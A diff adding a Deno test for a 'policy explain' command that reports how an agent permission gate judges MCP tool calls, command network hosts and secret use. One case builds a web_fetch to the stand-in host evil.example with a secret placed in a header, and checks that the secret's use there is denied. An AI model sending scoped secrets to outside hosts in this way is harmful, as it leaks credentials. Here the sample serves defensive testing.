@@ -165,6 +165,47 @@ Deno.test("G4 policy explain contacts nobody and leaves nothing behind, unless t
   assertEquals([refused.decided, refused.lookedUp], ["deny unattended", []]);
 });
 
+Deno.test("policy explain speaks of tools of MCP servers, hosts of commands and secrets, and asks nobody", async () => {
+  await using home = await tempHome();
+  await home.write({
+    mcp: { servers: { files: { command: ["files"], allow: ["read"] } } },
+    executor: { hosts: ["registry.npmjs.org"] },
+  });
+  await Deno.mkdir(`${home.paths.home}/workspace`, { recursive: true });
+  const read = await explain(home, ["mcp__files__read", '{"path":"a"}']);
+  assertEquals(read.decided, "allow mcp.listed");
+  const write = await explain(home, ["mcp__files__write", "{}"]);
+  assertEquals(write.decided, "ask mcp.other");
+  assertStringIncludes(write.change, '"write" in mcp.servers.files.allow');
+  const command = (hosts: string[]) =>
+    explain(home, ["exec", JSON.stringify({ command: ["true"], hosts })]);
+  assertEquals((await command(["registry.npmjs.org"])).decided, "allow exec.listed");
+  const elsewhere = await command(["evil.example"]);
+  assertEquals(elsewhere.decided, "ask exec.network");
+  assertEquals(elsewhere.target.hosts, ["evil.example:443", "evil.example:80"]);
+
+  const args = JSON.stringify({
+    url: "https://evil.example/",
+    headers: { "X-Key": "${secret:KEY}" },
+  });
+  const line = ["explain", "web_fetch", args, "--person-host", "evil.example"];
+  const secrets = [{ name: "KEY", hosts: ["api.example.com"], commands: [] }];
+  const { stdout, lookedUp } = await run(home, line, { secrets });
+  assertEquals(lookedUp, []);
+  assertStringIncludes(stdout, "allow  net.fetch\ntarget:  https://evil.example/ (headers: x-key)");
+  assertStringIncludes(stdout, "deny  secret.use\ntarget:  KEY@evil.example:443");
+  assertStringIncludes(stdout, "its scope is hosts: api.example.com");
+  const damaged = await run(home, [...line, "--json"], { secrets: new Error("it is damaged") });
+  const [use] = JSON.parse(damaged.stdout).secrets;
+  assertEquals([use.decision.rule, use.decision.reason], ["secret.unknown", "it is damaged"]);
+  const unknown = await assertRejects(
+    () => explain(home, ["mcp__mail__send", "{}"]),
+    ServiceError,
+    'there is no tool "mcp__mail__send"',
+  );
+  assertStringIncludes(unknown.message, "mcp__files__…");
+});
+
 Deno.test("policy explain refuses what would never get to the gate", async () => {
   await using home = await tempHome();
   const wrong: [string[], string, string][] = [
